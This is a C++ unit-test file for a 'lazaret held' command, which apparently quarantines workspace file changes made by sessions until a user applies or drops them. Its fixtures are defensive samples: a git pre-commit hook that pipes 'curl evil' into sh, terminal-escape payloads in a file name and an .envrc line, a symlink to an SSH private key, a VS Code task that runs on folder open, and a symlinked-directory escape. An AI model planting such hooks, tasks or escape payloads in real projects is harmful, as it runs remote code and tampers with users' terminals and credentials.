// The real `lazaret held` binary against a fake ConfigService served on the
// runtime directory's configd socket by this test (it names a profile
// directory in a temporary data root), a held store this test fills with
// the Store API, and session directories (with their locks) this test
// holds: what the command prints, applies, drops and refuses, and that
// the host folder changes only on apply.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "clients/lazaret/held/store.h"
#include "services/sessiond/session/session_dir.h"
#include "google/protobuf/util/json_util.h"
#include "lazaret/config/v1/config.grpc.pb.h"
#include "lazaret/held/v1/held.pb.h"
#include "services/common/runtime_dir.h"
#include "services/common/unix_server.h"
#include "tests/support/test_support.h"

namespace lazaret::cli::held {
namespace {

namespace cfg = ::lazaret::config::v1;
using ::testing::HasSubstr;
using ::testing::Not;

class FakeConfig final : public cfg::ConfigService::Service {
 public:
  explicit FakeConfig(std::string data_root) : data_root_(std::move(data_root)) {}
  grpc::Status ResolveProfile(grpc::ServerContext*, const cfg::ResolveProfileRequest* req,
                              cfg::ResolveProfileResponse* resp) override {
    if (!req->profile().empty() && req->profile() != "dev") {
      return grpc::Status(grpc::StatusCode::NOT_FOUND, "no profile " + req->profile());
    }
    cfg::ResolvedProfile* p = resp->mutable_profile();
    p->set_name("dev");
    p->set_data_root(data_root_);
    p->set_profile_dir(data_root_ + "/dev");
    return grpc::Status::OK;
  }

 private:
  std::string data_root_;
};

std::string Canonical(const std::string& p) {
  char buf[PATH_MAX];
  return realpath(p.c_str(), buf) != nullptr ? std::string(buf) : p;
}

std::string Slurp(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

bool Exists(const std::string& path) {
  struct stat st {};
  return lstat(path.c_str(), &st) == 0;
}

class HeldCmdTest : public ::testing::Test {
 protected:
  void SetUp() override {
    rt_ = Canonical(rt_dir_.path());
    data_ = Canonical(data_dir_.path());
    ws_ = Canonical(ws_dir_.path());
    view_ = Canonical(view_dir_.path());
    ASSERT_EQ(mkdir((data_ + "/dev").c_str(), 0700), 0);
    config_ = std::make_unique<FakeConfig>(data_);
    auto listener = UnixListener::Bind(SocketPath(rt_, "configd"));
    ASSERT_TRUE(listener.ok()) << listener.status();
    auto server =
        GrpcUnixServer::Start(std::move(*listener), {config_.get()}, {.allowed_uid = geteuid()});
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = std::move(*server);
  }
  void TearDown() override {
    sessions_.clear();
    if (server_ != nullptr) server_->Shutdown();
  }

  Store OpenStore() {
    absl::StatusOr<Store> s = Store::Open(data_ + "/dev", ws_, true);
    EXPECT_TRUE(s.ok()) << s.status();
    return *std::move(s);
  }
  void WriteView(const std::string& rel, const std::string& text) {
    const size_t slash = rel.rfind('/');
    if (slash != std::string::npos) {
      ASSERT_EQ(system(("mkdir -p '" + view_ + "/" + rel.substr(0, slash) + "'").c_str()), 0);
    }
    std::ofstream(view_ + "/" + rel) << text;
  }
  void HoldFromView(const std::string& rel, Change change) {
    Store s = OpenStore();
    absl::StatusOr<fs::DirFd> view = fs::DirFd::Open(view_);
    ASSERT_TRUE(view.ok());
    absl::Status st = s.Hold(*view, rel, change, "0123456789ab");
    ASSERT_TRUE(st.ok()) << st;
  }
  void LiveSession(const std::string& id, const std::string& workspace) {
    session::SessionRecord r{id, "dev", workspace, data_ + "/dev/git", getpid(), 1700000000, ""};
    auto dir = session::SessionDir::Create(rt_, r);
    ASSERT_TRUE(dir.ok()) << dir.status();
    sessions_.push_back(std::move(*dir));
  }

  test::CommandResult Held(std::vector<std::string> args) {
    args.insert(args.begin(), {test::Binary("lazaret"), "held"});
    args.push_back("--workspace");
    args.push_back(ws_);
    return test::Run(args, {{"LAZARET_RUNTIME_DIR", rt_}});
  }

  test::TempDir rt_dir_{"laz-hrt"};
  test::TempDir data_dir_{"laz-hdata"};
  test::TempDir ws_dir_{"laz-hws"};
  test::TempDir view_dir_{"laz-hview"};
  std::string rt_, data_, ws_, view_;
  std::unique_ptr<FakeConfig> config_;
  std::unique_ptr<GrpcUnixServer> server_;
  std::vector<std::unique_ptr<session::SessionDir>> sessions_;
};

TEST_F(HeldCmdTest, NothingHeldSaysSo) {
  test::CommandResult r = Held({});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("Held for profile dev in " + ws_ + ":\n  nothing held\n"));
  test::CommandResult d = Held({"diff"});
  EXPECT_EQ(d.exit_code, 0) << d.err;
  EXPECT_THAT(d.out, HasSubstr("nothing held"));
}

TEST_F(HeldCmdTest, ListShowsEachHeldPathEscaped) {
  WriteView(".claude/settings.json", "{\"hooks\":{\"SessionStart\":[]}}\n");
  HoldFromView(".claude/settings.json", Change::kCreated);
  WriteView("sub/.envrc\x1b[2J", "x\n");
  HoldFromView("sub/.envrc\x1b[2J", Change::kCreated);
  test::CommandResult r = Held({"list", "dev"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("Held for profile dev in " + ws_));
  EXPECT_THAT(r.out, HasSubstr("created  file     0123456789ab"));
  EXPECT_THAT(r.out, HasSubstr(".claude/settings.json\n"));
  EXPECT_THAT(r.out, HasSubstr("sub/.envrc\\x1b[2J\n"));
  EXPECT_THAT(r.out, Not(HasSubstr("\x1b")));

  test::CommandResult j = Held({"--json"});
  EXPECT_EQ(j.exit_code, 0) << j.err;
  ::lazaret::held::v1::Listing listing;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(j.out, &listing).ok()) << j.out;
  ASSERT_EQ(listing.entries_size(), 2);
  EXPECT_EQ(listing.entries(1).path_bytes(), "sub/.envrc\x1b[2J");
  EXPECT_EQ(listing.entries(1).path(), "sub/.envrc\\x1b[2J");

  EXPECT_EQ(Held({"list", "other"}).exit_code, 1);
}

TEST_F(HeldCmdTest, DiffShowsHostAgainstHeldWithEveryByteVisible) {
  std::ofstream(ws_ + "/.envrc") << "export A=1\n";
  WriteView(".envrc", "export A=1\nexport B=\x1b]0;pwned\x07\rok \n");
  HoldFromView(".envrc", Change::kChanged);
  ASSERT_EQ(symlink("/home/dev/.ssh/id_ed25519", (view_ + "/.nvmrc").c_str()), 0);
  HoldFromView(".nvmrc", Change::kCreated);

  test::CommandResult r = Held({"diff"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("== .envrc: changed (file) by session 0123456789ab\n"));
  EXPECT_THAT(r.out, HasSubstr("--- a/.envrc\n+++ b/.envrc\n"));
  EXPECT_THAT(r.out, HasSubstr("+export B=\\x1b]0;pwned\\x07\\rok[1 space]\n"));
  EXPECT_THAT(r.out, HasSubstr("   host: not in the folder\n"));
  EXPECT_THAT(r.out, HasSubstr("+symlink -> /home/dev/.ssh/id_ed25519\n"));
  EXPECT_THAT(r.out, Not(HasSubstr("\x1b")));
  EXPECT_THAT(r.out, Not(HasSubstr("\r")));

  test::CommandResult one = Held({"diff", "./.nvmrc"});
  EXPECT_EQ(one.exit_code, 0) << one.err;
  EXPECT_THAT(one.out, Not(HasSubstr(".envrc")));
  test::CommandResult missing = Held({"diff", ".bashrc"});
  EXPECT_EQ(missing.exit_code, 1);
  EXPECT_THAT(missing.err, HasSubstr("not held: .bashrc. Held: .envrc, .nvmrc"));
}

TEST_F(HeldCmdTest, ApplyNeedsYesWithoutATerminalAndRefusesWhileASessionRuns) {
  std::ofstream(ws_ + "/.envrc") << "old\n";
  WriteView(".envrc", "new\n");
  HoldFromView(".envrc", Change::kChanged);

  test::CommandResult no_tty = Held({"apply", ".envrc"});
  EXPECT_EQ(no_tty.exit_code, 2);
  EXPECT_THAT(no_tty.err, HasSubstr("add --yes"));
  EXPECT_EQ(Slurp(ws_ + "/.envrc"), "old\n");

  LiveSession("0123456789ab", ws_);
  test::CommandResult running = Held({"apply", ".envrc", "--yes"});
  EXPECT_EQ(running.exit_code, 1);
  EXPECT_THAT(running.err, HasSubstr("session 0123456789ab is running on this workspace"));
  EXPECT_EQ(Slurp(ws_ + "/.envrc"), "old\n");
  sessions_.clear();

  test::CommandResult applied = Held({"apply", ".envrc", "--yes"});
  EXPECT_EQ(applied.exit_code, 0) << applied.err;
  EXPECT_EQ(applied.out, "applied: .envrc\n");
  EXPECT_EQ(Slurp(ws_ + "/.envrc"), "new\n");
  EXPECT_THAT(Held({}).out, HasSubstr("nothing held"));
}

TEST_F(HeldCmdTest, ApplyAndDropArePerFile) {
  WriteView(".vscode/tasks.json", "{\"tasks\":[{\"runOn\":\"folderOpen\"}]}\n");
  HoldFromView(".vscode/tasks.json", Change::kCreated);
  WriteView(".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
  HoldFromView(".githooks/pre-commit", Change::kCreated);
  std::ofstream(ws_ + "/.nvmrc") << "18\n";
  {
    Store s = OpenStore();
    ASSERT_TRUE(s.HoldDeletion(".nvmrc", "0123456789ab").ok());
  }

  test::CommandResult drop = Held({"drop", ".githooks/pre-commit", "--yes"});
  EXPECT_EQ(drop.exit_code, 0) << drop.err;
  EXPECT_EQ(drop.out, "dropped: .githooks/pre-commit\n");
  EXPECT_FALSE(Exists(ws_ + "/.githooks"));

  test::CommandResult apply = Held({"apply", ws_ + "/.vscode/tasks.json", "--yes"});
  EXPECT_EQ(apply.exit_code, 0) << apply.err;
  EXPECT_EQ(Slurp(ws_ + "/.vscode/tasks.json"), "{\"tasks\":[{\"runOn\":\"folderOpen\"}]}\n");
  EXPECT_TRUE(Exists(ws_ + "/.nvmrc"));

  test::CommandResult list = Held({});
  EXPECT_THAT(list.out, HasSubstr("deleted  deleted"));
  EXPECT_THAT(list.out, Not(HasSubstr("tasks.json")));

  test::CommandResult all = Held({"apply", "--all", "--yes"});
  EXPECT_EQ(all.exit_code, 0) << all.err;
  EXPECT_EQ(all.out, "applied: .nvmrc\n");
  EXPECT_FALSE(Exists(ws_ + "/.nvmrc"));

  EXPECT_EQ(Held({"apply", "--yes"}).exit_code, 2);  // neither paths nor --all
  test::CommandResult none = Held({"drop", ".envrc", "--yes"});
  EXPECT_EQ(none.exit_code, 1);
  EXPECT_THAT(none.err, HasSubstr("not held: .envrc. Nothing is held for this workspace."));
}

TEST_F(HeldCmdTest, ApplyThroughASymlinkedDirectoryIsRefused) {
  WriteView(".claude/settings.json", "{\"hooks\":{}}\n");
  HoldFromView(".claude/settings.json", Change::kCreated);
  test::TempDir outside("laz-hout");
  ASSERT_EQ(symlink(outside.path().c_str(), (ws_ + "/.claude").c_str()), 0);
  test::CommandResult r = Held({"apply", ".claude/settings.json", "--yes"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_THAT(r.err, HasSubstr("'.claude' in " + ws_ + " is a symlink or not a directory"));
  EXPECT_FALSE(Exists(outside.path() + "/settings.json"));
  EXPECT_THAT(Held({}).out, HasSubstr(".claude/settings.json"));
}

TEST_F(HeldCmdTest, AnotherWorkspaceWithHeldChangesIsNamed) {
  test::TempDir other_dir("laz-hwt");
  const std::string other = Canonical(other_dir.path());
  {
    absl::StatusOr<Store> s = Store::Open(data_ + "/dev", other, true);
    ASSERT_TRUE(s.ok()) << s.status();
    WriteView(".envrc", "x\n");
    ASSERT_TRUE(s->Hold(*fs::DirFd::Open(view_), ".envrc", Change::kCreated, "0123456789ab").ok());
  }
  test::CommandResult r = Held({});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("nothing held"));
  EXPECT_THAT(r.out, HasSubstr("Held for other workspaces of this profile (use --workspace DIR): " +
                               other + "\n"));
}

}  // namespace
}  // namespace lazaret::cli::held
